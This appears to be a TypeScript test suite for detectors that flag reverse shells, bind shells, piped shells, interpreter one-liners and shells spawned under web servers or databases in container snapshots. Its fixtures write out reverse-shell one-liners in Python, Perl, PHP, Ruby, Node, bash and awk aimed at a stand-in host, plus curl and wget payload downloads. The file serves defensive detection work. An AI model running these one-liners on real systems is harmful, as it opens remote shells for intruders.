import { fileOf, processOf } from '@icecore/snapshot/test-support';
import type { Process } from '@icecore/snapshot';
import { open, started, tcp } from '../examination.test-support.ts';
import { answers } from './answers.test-support.ts';
import { bindShell } from './bind-shell.ts';
import { interpreterOneLiner } from './interpreter-one-liner.ts';
import { missingProcess } from './missing-process.ts';
import { pipedShell } from './piped-shell.ts';
import { reverseShell } from './reverse-shell.ts';
import { shellOfDatabase, shellOfWebServer } from './shell-of-server.ts';
import { unexpectedTerminal } from './unexpected-terminal.ts';

const peer = tcp(40, '203.0.113.7:4444');
const onPeer = (fds: readonly number[]) => ({ descriptors: open(fds, 40) });
const sh = (parts: Partial<Process>, pid = 23): Process => started(pid, '/usr/bin/dash', ['sh', '-i'], parts);

answers(reverseShell, [
  ['a shell with all its standard descriptors on a peer', { sockets: [peer], processes: [sh(onPeer([0, 1, 2]))] }, ['23 high']],
  ['busybox’s `nc -e`, which leaves the error output', { sockets: [peer], processes: [started(23, '/bin/busybox', ['/bin/sh'], { ...onPeer([0, 1]), comm: 'sh' })] }, ['23 high']],
  ['a peer on loopback', { sockets: [tcp(40, '127.0.0.1:4444')], processes: [sh(onPeer([0, 1, 2]))] }, ['23 high']],
  ['an IPv6 socket', { sockets: [tcp(40, '::ffff:203.0.113.7:4444', { family: 'AF_INET6' })], processes: [sh(onPeer([0, 1, 2]))] }, ['23 high']],
  ...(['/usr/bin/perl', '/usr/bin/python3.12', '/usr/bin/ruby3.1', '/usr/bin/php8.2', '/usr/bin/node', '/usr/bin/zsh', '/usr/bin/lua5.4'] as const).map(
    (program) => [`${program} on a peer`, { sockets: [peer], processes: [started(23, program, [program], onPeer([0, 1, 2]))] }, ['23 high']] as const,
  ),
  ['a relay with a shell below it', { sockets: [peer], processes: [started(9, '/usr/bin/socat', ['socat'], onPeer([0, 1])), sh({ ppid: 9 })] }, ['9 high']],
  ['a shell under a login over SSH', { sockets: [peer], processes: [started(9, '/usr/sbin/sshd', ['sshd: root']), sh({ ppid: 9, ...onPeer([0, 1, 2]) })] }, []],
  ['a shell with a connection of its own beside them, as `exec 5<>/dev/tcp/…` makes', { sockets: [peer], processes: [sh(onPeer([5]))] }, ['23 medium']],
  ['a shell that has a connection from the server above it', { sockets: [peer], processes: [started(9, '/usr/sbin/apache2', ['apache2'], onPeer([5])), sh({ ppid: 9, ...onPeer([5]) })] }, []],
  ['a connection that is gone', { sockets: [tcp(40, '203.0.113.7:4444', { state: 'CLOSE' })], processes: [sh(onPeer([0, 1, 2]))] }, []],
  ['a service that is started with its connection as input', { sockets: [peer], processes: [started(9, '/usr/sbin/in.ftpd', ['in.ftpd'], onPeer([0, 1, 2]))] }, []],
  ['a bind shell, which is told as that', { sockets: [peer, tcp(41, undefined, { local: { address: '0.0.0.0', port: 50000 } })], processes: [sh(onPeer([0, 1, 2]))] }, []],
]);

const listener = tcp(41, undefined, { local: { address: '0.0.0.0', port: 50000 } });

answers(bindShell, [
  ['a shell whose peer came in on a port that is listened on', { sockets: [peer, listener], processes: [sh(onPeer([0, 1, 2]))] }, ['23 high']],
  ['a shell on the listening socket itself', { sockets: [listener], processes: [sh({ descriptors: open([0, 1, 2], 41) })] }, ['23 high']],
  ['a shell whose listener is gone, by the ports of its connection', { sockets: [tcp(40, '203.0.113.7:51234', { local: { address: '10.0.0.5', port: 4444 } })], processes: [sh(onPeer([0, 1, 2]))] }, ['23 high']],
  ['a shell on loopback whose other end is a listener that takes one caller', { sockets: [tcp(40, '127.0.0.1:4444', { local: { address: '127.0.0.1', port: 40000 } }), tcp(42, '127.0.0.1:40000', { local: { address: '127.0.0.1', port: 4444 } })], processes: [started(8, '/bin/busybox', ['busybox', 'nc', '-l', '-p', '4444'], { descriptors: open([3], 42) }), sh(onPeer([0, 1]))] }, ['23 high']],
  ['what inetd starts', { sockets: [peer, listener], processes: [started(9, '/usr/sbin/inetd', ['inetd']), sh({ ppid: 9, ...onPeer([0, 1, 2]) })] }, []],
  ['a reverse shell', { sockets: [peer], processes: [sh(onPeer([0, 1, 2]))] }, []],
  ['a server that listens', { sockets: [listener], processes: [started(9, '/usr/bin/python3', ['python3', 'app.py'], { descriptors: open([3], 41) })] }, []],
]);

const fifo = [...open([0], 50, 'PIPE', 'pipe:[50]'), ...open([1, 2], 51, 'PIPE', 'pipe:[51]')];
const relayed = (path: string, words: readonly string[], ends: Process['descriptors'] = [...open([0], 51, 'PIPE', 'pipe:[51]'), ...open([1], 50, 'PIPE', 'pipe:[50]'), ...open([3], 40)]): Process => started(9, path, words, { descriptors: ends });

answers(pipedShell, [
  ['a shell between two pipes of netcat', { sockets: [peer], processes: [sh({ descriptors: fifo }), relayed('/usr/bin/nc.openbsd', ['nc', '203.0.113.7', '4444'])] }, ['23 high']],
  ['one behind openssl s_client', { sockets: [peer], processes: [sh({ descriptors: fifo }), relayed('/usr/bin/openssl', ['openssl', 's_client', '-quiet'])] }, ['23 high']],
  [
    'one on a pair of unix sockets',
    {
      sockets: [peer, { ...tcp(60, undefined), family: 'AF_UNIX', inode: 600, peerInode: 601 }, { ...tcp(61, undefined), family: 'AF_UNIX', inode: 601, peerInode: 600 }],
      processes: [sh({ descriptors: open([0, 1, 2], 60, 'UNIXSK') }), relayed('/usr/bin/socat', ['socat'], [...open([5], 61, 'UNIXSK'), ...open([6], 40)])],
    },
    ['23 high'],
  ],
  ['one on a terminal that socat made', { sockets: [peer], processes: [started(9, '/usr/bin/socat', ['socat'], { descriptors: [...open([5], 71, 'TTY', '/dev/ptmx'), ...open([6], 40)] }), sh({ ppid: 9, descriptors: open([0, 1, 2], 70, 'TTY', '/dev/pts/0') })] }, ['23 high']],
  ['one that Python spawned on a terminal', { sockets: [peer], processes: [started(9, '/usr/bin/python3.11', ['python3', '-c', 'import pty'], { descriptors: [...open([5], 71, 'TTY', '/dev/pts/ptmx'), ...open([6], 40)] }), sh({ ppid: 9, descriptors: open([0, 1, 2], 70, 'TTY', '/dev/pts/0') })] }, ['23 high']],
  ['with less confidence the terminal of a notebook', { sockets: [peer], processes: [started(9, '/usr/bin/python3.11', ['python3', '/usr/bin/jupyter-lab'], { descriptors: [...open([5], 71, 'TTY', '/dev/ptmx'), ...open([6], 40)] }), sh({ ppid: 9, descriptors: open([0, 1, 2], 70, 'TTY', '/dev/pts/0') })] }, ['23 low']],
  ['a shell that shares the container’s log with netcat', { sockets: [peer], processes: [sh({ descriptors: [...open([0], 50, 'PIPE', 'pipe:[50]', 0), ...open([1, 2], 51, 'PIPE', 'pipe:[51]', 1)] }), relayed('/usr/bin/nc', ['nc'], [...open([1, 2], 52, 'PIPE', 'pipe:[51]', 1), ...open([3], 40)])] }, []],
  ['netcat without a connection', { sockets: [], processes: [sh({ descriptors: fifo }), relayed('/usr/bin/nc', ['nc'])] }, []],
  ['a shell in a pipeline', { sockets: [peer], processes: [sh({ descriptors: fifo }), relayed('/usr/bin/sort', ['sort'])] }, []],
  ['a shell that writes to the container’s log', { sockets: [peer], processes: [sh({ descriptors: [...open([0], 1, 'REG', '/dev/null'), ...open([1, 2], 51, 'PIPE', 'pipe:[51]')] }), relayed('/usr/bin/nc', ['nc'])] }, []],
]);

const python = (code: string): Process => started(5, '/usr/bin/python3.11', ['python3', '-c', code]);

answers(interpreterOneLiner, [
  ['a reverse shell in Python', { processes: [python('import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")')] }, ['5 high']],
  ['one in Perl', { processes: [started(5, '/usr/bin/perl', ['perl', '-e', 'use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");'])] }, ['5 high']],
  ['one in PHP', { processes: [started(5, '/usr/bin/php8.2', ['php', '-r', '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'])] }, ['5 high']],
  ['one in Ruby', { processes: [started(5, '/usr/bin/ruby3.1', ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("203.0.113.7","4444");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'])] }, ['5 high']],
  ['one in Node.js', { processes: [started(5, '/usr/bin/node', ['node', '-e', 'const n=require("net");const c=n.connect;net.connect(4444,"203.0.113.7",()=>{require("child_process").spawn("sh")})'])] }, ['5 high']],
  ['one in bash', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])] }, ['5 high']],
  ['one in awk', { processes: [started(5, '/usr/bin/gawk', ['awk', 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while (s |& getline c) c |& getline}'])] }, ['5 high']],
  ['code that hides itself', { processes: [python('exec(__import__("base64").b64decode("aW1wb3J0IG9z"))')] }, ['5 high']],
  ['a health check', { processes: [python('import socket; socket.create_connection(("127.0.0.1", 8080), 2).close()')] }, []],
  ['with less confidence a health check of bash, which asks its own container', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health HTTP/1.1\\r\\n" >&3; timeout 1 cat <&3 | grep -q UP'])] }, ['5 low']],
  ['a shell on the loopback interface', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])] }, ['5 high']],
  ['a shell’s loop', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'while true; do sleep 1; done'])] }, []],
  ['a program file', { processes: [started(5, '/usr/bin/python3', ['python3', '/app/pty.spawn.py'])] }, []],
]);

const terminal = open([0, 1, 2], 70, 'TTY', '/dev/pts/0');

answers(unexpectedTerminal, [
  ['a shell on a terminal in a container without one', { container: { terminal: false }, processes: [processOf(1), sh({ descriptors: terminal })] }, ['23 medium']],
  ['with less confidence one in tmux', { container: { terminal: false }, processes: [started(9, '/usr/bin/tmux', ['tmux']), sh({ ppid: 9, descriptors: terminal })] }, ['23 low']],
  ['a container that was given a terminal', { container: { terminal: true }, processes: [sh({ descriptors: terminal })] }, []],
  ['a container of which that is not known', { processes: [sh({ descriptors: terminal })] }, []],
  ['another program’s terminal', { container: { terminal: false }, processes: [started(9, '/usr/bin/expect', ['expect'], { descriptors: terminal })] }, []],
]);

answers(missingProcess, [
  ['a process that only the node saw', { processes: [processOf(1)], nodeProcesses: [{ pid: 4711, namespacePid: 9, comm: 'sh', commandLine: 'sh' }] }, ['- high']],
  ['a process of the dump', { processes: [processOf(9)], nodeProcesses: [{ pid: 4711, namespacePid: 9, comm: 'sh', commandLine: 'sh' }] }, []],
  ['one that only begins like a runtime', { processes: [processOf(1)], nodeProcesses: [{ pid: 4711, namespacePid: 9, comm: 'pausex', commandLine: './pausex' }] }, ['- high']],
  ['what the runtime starts for a moment', { processes: [processOf(1)], nodeProcesses: [{ pid: 4711, namespacePid: 9, comm: 'runc:[2:INIT]', commandLine: 'runc init' }] }, []],
  ['the processes of a container that could not be dumped', { processes: [], nodeProcesses: [{ pid: 4711, namespacePid: 1, comm: 'nginx', commandLine: 'nginx' }] }, []],
  ['the runtime', { processes: [processOf(1)], nodeProcesses: [{ pid: 4711, namespacePid: 9, comm: 'runc', commandLine: 'runc init' }] }, []],
]);

const nginx = started(1, '/usr/sbin/nginx', ['nginx: worker process'], { ppid: 0 });

answers(shellOfWebServer, [
  ['a shell below nginx', { processes: [nginx, sh({ ppid: 1 })] }, ['23 high']],
  ['a tool behind a shell', { processes: [started(1, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], { ppid: 0 }), started(8, '/usr/bin/dash', ['sh', '-c', 'id'], { ppid: 1 }), started(9, '/usr/bin/curl', ['curl', 'http://198.51.100.7/a'], { ppid: 8 })] }, ['8 medium', '9 high']],
  ['with less confidence what an application does for its work', { processes: [started(1, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], { ppid: 0 }), started(8, '/usr/bin/dash', ['sh', '-c', 'convert a.png b.jpg'], { ppid: 1 })] }, ['8 low']],
  ['a shell below a Java server', { sockets: [listener], processes: [started(1, '/usr/bin/java', ['java', '-jar', 'app.jar'], { ppid: 0, descriptors: open([7], 41) }), sh({ ppid: 1 })] }, ['23 medium']],
  ['a worker of the server', { processes: [nginx, started(8, '/usr/sbin/nginx', ['nginx: worker process'], { ppid: 1 })] }, []],
  ['the entrypoint’s shell, above the server', { processes: [started(1, '/usr/bin/dash', ['sh', '/entry.sh'], { ppid: 0 }), started(8, '/usr/sbin/nginx', ['nginx'], { ppid: 1 })] }, []],
  ['a shell that waits for a rotation of logs', { processes: [nginx, started(8, '/usr/bin/dash', ['sh', '-c', 'sleep 3600'], { ppid: 1 })] }, []],
]);

answers(shellOfDatabase, [
  ['a shell below Redis', { processes: [started(1, '/usr/bin/redis-server', ['redis-server *:6379'], { ppid: 0 }), sh({ ppid: 1 })] }, ['23 high']],
  ['a downloader below PostgreSQL', { processes: [started(1, '/usr/lib/postgresql/16/bin/postgres', ['postgres'], { ppid: 0 }), started(9, '/usr/bin/wget', ['wget', 'http://198.51.100.7/a'], { ppid: 1 })] }, ['9 high']],
  ['with less confidence a backup of PostgreSQL', { processes: [started(1, '/usr/lib/postgresql/16/bin/postgres', ['postgres'], { ppid: 0 }), started(9, '/usr/bin/dash', ['sh', '-c', 'cp pg_wal/1 /archive/1'], { ppid: 1 })] }, ['9 low']],
  ['a process of the database', { processes: [started(1, '/usr/lib/postgresql/16/bin/postgres', ['postgres'], { ppid: 0 }), started(9, '/usr/lib/postgresql/16/bin/postgres', ['postgres: walwriter'], { ppid: 1 })] }, []],
  ['a shell elsewhere', { processes: [started(1, '/sbin/tini', ['tini'], { ppid: 0, executable: fileOf('/sbin/tini') }), started(2, '/usr/bin/redis-server', ['redis-server'], { ppid: 1 }), sh({ ppid: 1 })] }, []],
]);
